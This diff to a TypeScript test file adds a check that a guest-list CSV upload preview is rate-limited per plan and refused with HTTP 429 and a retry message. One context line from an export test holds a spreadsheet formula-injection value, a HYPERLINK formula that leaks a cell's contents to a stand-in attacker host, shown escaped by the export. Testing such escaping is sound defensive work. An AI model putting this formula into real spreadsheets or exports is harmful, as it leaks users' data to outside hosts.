@@ -542,5 +542,41 @@ for (const backend of backends()) {
       expect(semi[2]).toBe(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";evil@example.org;;'+1 dept;;;;'@SUM(A1);1;H-1;Hall`);
       expect(semi[3]).toBe(';Zoë Ünal;;;Vertrieb;;;;;1;H-1;Hall');
     });
+
+    it("charges a preview to the plan's decide time: while it is used up another preview is refused, retryably", async () => {
+      // An app of its own whose plans may spend 1 ms of the thread, refilled at 1 µs a second: the first preview
+      // (2,000 rows, well over 1 ms of planning) is answered and spends it; the next is refused, whatever the machine.
+      const tight = await startApp(store, { limits: { decideMsPerPlan: { perSecond: 0.001, burst: 1 } } });
+      try {
+        const links = await createPlan(store, tight.app.hub, 'Busy', { commands: [{ type: 'createPlan', name: 'Busy' }] });
+        const token = tokenOf(links.organisePath);
+        const rows = Array.from({ length: 2_000 }, (_, i) => `Guest ${i},guest${i}@example.org`);
+        const up = await fetch(`${tight.url}/api/plans/${token}/uploads?name=many.csv`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/octet-stream', ...user },
+          body: ['Name,E-mail', ...rows].join('\n'),
+        });
+        expect(up.status).toBe(201);
+        const { uploadId, suggestedSheet } = (await up.json()) as UploadReply;
+        const ask = () =>
+          fetch(`${tight.url}/api/plans/${token}/uploads/${uploadId}/preview`, {
+            method: 'POST',
+            headers: { 'content-type': 'application/json', ...user },
+            body: JSON.stringify({ kind: 'guests', sheet: suggestedSheet }),
+          });
+        const first = await ask();
+        const answer = (await first.json()) as Preview;
+        expect(first.status, JSON.stringify(answer).slice(0, 300)).toBe(200);
+        expect(answer.counts.new).toBe(2_000);
+        const second = await ask();
+        expect(second.status).toBe(429);
+        expect(Number(second.headers.get('retry-after'))).toBeGreaterThan(0);
+        const body = (await second.json()) as { error: string; code: string };
+        expect(body.code).toBe('ServerBusy');
+        expect(body.error).toMatch(/^This plan’s server is busy with other changes just now\. Please wait \d+ seconds? and preview again\.$/);
+      } finally {
+        await tight.close();
+      }
+    });
   });
 }
